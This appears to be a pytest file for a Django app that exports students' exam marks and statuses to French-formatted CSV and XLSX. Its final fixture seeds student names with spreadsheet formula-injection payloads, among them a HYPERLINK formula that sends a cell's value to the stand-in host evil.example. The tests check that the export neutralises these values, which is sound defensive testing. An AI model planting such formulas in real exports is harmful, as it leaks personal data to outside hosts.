"""The commission summary export: CSV for French Excel and XLSX, marks and statuses, never a level."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from audit.models import AuditEntry
from certification.models import ResultStatus
from tests.factories_certification_grids import make_grid_commission
from tests.factories_certification_marks import agree_grid, make_result

pytestmark = pytest.mark.django_db

LEVEL_CODES = {"TI", "I", "S", "TS"}


@pytest.fixture
def commission(cast):
    commission = make_grid_commission(cast)
    cast.student.candidate_number = "02712345"
    cast.student.save(update_fields=["candidate_number"])
    agree_grid(commission, cast.student, "S-TS-NE-S")
    make_result(commission, cast.student, profile="S-TS-NE-S", mark="12.5")
    make_result(commission, cast.student2, status=ResultStatus.ABSENT, absent_reason="malade")
    return commission


def _get(login, cast, commission, fmt):
    return login(cast.teacher).get(reverse("certification:commission_export", args=[commission.pk, fmt]))


def test_csv_is_semicolon_utf8_bom_with_french_decimal_comma(cast, login, commission):
    response = _get(login, cast, commission, "csv")
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in response.content
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0] == ["Nom", "Prénom", "N° candidat", "Note"]
    by_name = {row[0]: row for row in rows[1:]}
    assert by_name[cast.student.user.last_name] == [
        cast.student.user.last_name,
        cast.student.user.first_name,
        "02712345",
        "12,5",
    ]
    assert by_name[cast.student2.user.last_name][3] == "ABS"
    assert 'filename="notes-E4-' in response["Content-Disposition"]
    assert response["Content-Disposition"].endswith('-2027.csv"')


def test_csv_never_contains_level_codes(cast, login, commission):
    rows = list(
        csv.reader(io.StringIO(_get(login, cast, commission, "csv").content.decode("utf-8-sig")), delimiter=";")
    )
    cells = {cell for row in rows for cell in row}
    assert not cells & LEVEL_CODES


def test_xlsx_has_bold_header_numbers_and_statuses(cast, login, commission):
    response = _get(login, cast, commission, "xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert isinstance(sheet, Worksheet)
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Nom", "Prénom", "N° candidat", "Note")
    assert sheet["A1"].font.bold
    by_name = {row[0]: row for row in rows[1:]}
    assert by_name[cast.student.user.last_name][3] == 12.5
    assert by_name[cast.student2.user.last_name][3] == "ABS"
    assert not {cell for row in rows for cell in row if isinstance(cell, str)} & LEVEL_CODES
    assert response["Content-Disposition"].endswith('-2027.xlsx"')


def test_pending_reserved_and_nv_show_their_labels(cast, commission):
    from certification.evaluation.exports import summary_rows
    from tests.personas import make_student

    reserved = make_student("res", "Rose", "Réserve", cast.cohort)
    nv = make_student("nv", "Noé", "Nonvalide", cast.cohort)
    make_student("pend", "Paul", "Pendant", cast.cohort)
    make_result(commission, reserved, status=ResultStatus.RESERVED)
    make_result(commission, nv, status=ResultStatus.NOT_VALID)
    values = {row[0]: row[3] for row in summary_rows(commission)}
    assert values["Réserve"] == "Réservée"
    assert values["Nonvalide"] == "NV"
    assert values["Pendant"] == "À noter"


def test_unknown_format_is_404(cast, login, commission):
    assert _get(login, cast, commission, "pdf").status_code == 404


def test_export_is_audited(cast, login, commission):
    _get(login, cast, commission, "csv")
    assert AuditEntry.objects.filter(action="commission.exported").exists()


INJECTIONS = {
    "last_name": '=HYPERLINK("http://evil.example/?x="&D2;"Voir")',
    "first_name": "@SUM(1+1)",
}


@pytest.fixture
def injected(cast, commission):
    user = cast.student.user
    user.last_name, user.first_name = INJECTIONS["last_name"], INJECTIONS["first_name"]
    user.save(update_fields=["last_name", "first_name"])
    cast.student2.candidate_number = "-0241"
    cast.student2.save(update_fields=["candidate_number"])
    user2 = cast.student2.user
    user2.last_name, user2.first_name = "+33612345678", "\tTab"
    user2.save(update_fields=["last_name", "first_name"])
    return commission


def test_csv_neutralises_formula_prefixes(cast, login, injected):
    text = _get(login, cast, injected, "csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))[1:]
    cells = [cell for row in rows for cell in row[:3]]
    assert "'" + INJECTIONS["last_name"] in cells
    assert "'@SUM(1+1)" in cells
    assert {"'+33612345678", "'\tTab", "'-0241"} <= set(cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert sorted(row[3] for row in rows) == ["12,5", "ABS"]


def test_xlsx_neutralises_formula_prefixes_and_keeps_marks_numeric(cast, login, injected):
    sheet = load_workbook(io.BytesIO(_get(login, cast, injected, "xlsx").content)).active
    rows = list(sheet.iter_rows(min_row=2))
    for row in rows:
        for cell in row[:3]:
            assert cell.data_type != "f"
            assert cell.value is None or not str(cell.value).startswith(("=", "+", "-", "@", "\t", "\r"))
    names = {row[0].value: row for row in rows}
    injected_row = names["'" + INJECTIONS["last_name"]]
    assert injected_row[0].data_type == "s"
    assert injected_row[1].value == "'@SUM(1+1)"
    assert (injected_row[3].value, injected_row[3].data_type) == (12.5, "n")
    assert names["'+33612345678"][2].value == "'-0241"
